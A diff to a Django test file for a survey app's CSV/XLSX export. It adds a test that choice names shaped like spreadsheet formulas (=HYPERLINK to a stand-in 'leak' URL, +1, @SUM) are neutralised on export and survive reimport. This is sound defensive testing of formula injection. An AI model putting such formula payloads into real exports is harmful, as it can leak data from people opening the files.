@@ -3,6 +3,7 @@
 import csv
 import io
 
+import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from openpyxl import load_workbook
 
@@ -10,6 +11,9 @@ from evaluation.bulk import responses_import
 from evaluation.export import export_rows, write_csv, write_xlsx
 from evaluation.models import Answer, Response
 from evaluation.summary import questionnaire_summary
+
+# Re-imported rows are dated as exported, inside the round (autumn 2009); today must not be before them.
+pytestmark = pytest.mark.usefixtures("autumn")
 
 
 def test_export_reimports_to_an_identical_summary(questionnaire, round_a, round_b, answer):
@@ -57,3 +61,52 @@ def test_export_uses_a_fixed_number_of_queries(questionnaire, round_a, answer, d
     with django_assert_max_num_queries(len(one.captured_queries)):
         rows = list(export_rows(questionnaire, Response.objects.all()))
     assert len(rows) == 51
+
+
+FORMULA_CHOICES = ['=HYPERLINK("http://example.org/?leak")', "+1", "-1", "@SUM(A1)", "plain"]
+
+
+@pytest.fixture
+def formula_round(group_a):
+    """A round of a questionnaire whose choice names look like spreadsheet formulas."""
+    from evaluation.services import questionnaire_import
+    from evaluation.tests.factories import CollectionRoundFactory, xlsform_bytes
+
+    survey = [["select_one odd", "pick", "Pick one"], ["select_multiple odd", "many", "Pick any"]]
+    choices = [["odd", f"placeholder{n}", f"Choice {n}"] for n in range(len(FORMULA_CHOICES))]
+    book = load_workbook(io.BytesIO(xlsform_bytes(survey=survey, choices=choices, settings={"form_id": "odd"})))
+    for n, name in enumerate(FORMULA_CHOICES, start=2):
+        cell = book["choices"].cell(row=n, column=2)
+        cell.value, cell.data_type = name, "s"  # text, as a spreadsheet stores a typed '=...
+    buffer = io.BytesIO()
+    book.save(buffer)
+    version = questionnaire_import(data=buffer.getvalue())
+    return CollectionRoundFactory(questionnaire=version.questionnaire, group=group_a, site=group_a.site)
+
+
+def test_choice_names_that_look_like_formulas_are_neutralised_and_reimport(formula_round):
+    from evaluation.services import response_create
+
+    questionnaire = formula_round.questionnaire
+    for pick, many in [(FORMULA_CHOICES[0], FORMULA_CHOICES[:2]), ("+1", ["-1", "plain"]), ("plain", ["@SUM(A1)"])]:
+        response_create(round=formula_round, values={"pick": pick, "many": many}, submitted_on=formula_round.opens_on,
+                        is_paper=True)  # fmt: skip
+    rows = list(export_rows(questionnaire, Response.objects.all()))
+    header = rows[0]
+    cells = [(row[header.index("pick")], row[header.index("many")]) for row in rows[1:]]
+    assert cells == [
+        ('\'=HYPERLINK("http://example.org/?leak")', '\'=HYPERLINK("http://example.org/?leak") +1'),
+        ("'+1", "'-1 plain"),
+        ("plain", "'@SUM(A1)"),
+    ]
+    before = questionnaire_summary(questionnaire=questionnaire)
+    for writer, name in ((write_csv, "x.csv"), (write_xlsx, "x.xlsx")):
+        data = writer(export_rows(questionnaire, Response.objects.all()))
+        if name == "x.csv":
+            text = data.decode("utf-8-sig")
+            assert all(not line.startswith(("=", "+", "-", "@")) for field in csv.reader(io.StringIO(text))
+                       for line in field)  # fmt: skip
+        Answer.objects.all().delete()
+        Response.objects.all().delete()
+        assert responses_import(questionnaire=questionnaire, uploaded_file=SimpleUploadedFile(name, data)).saved == 3
+        assert questionnaire_summary(questionnaire=questionnaire) == before
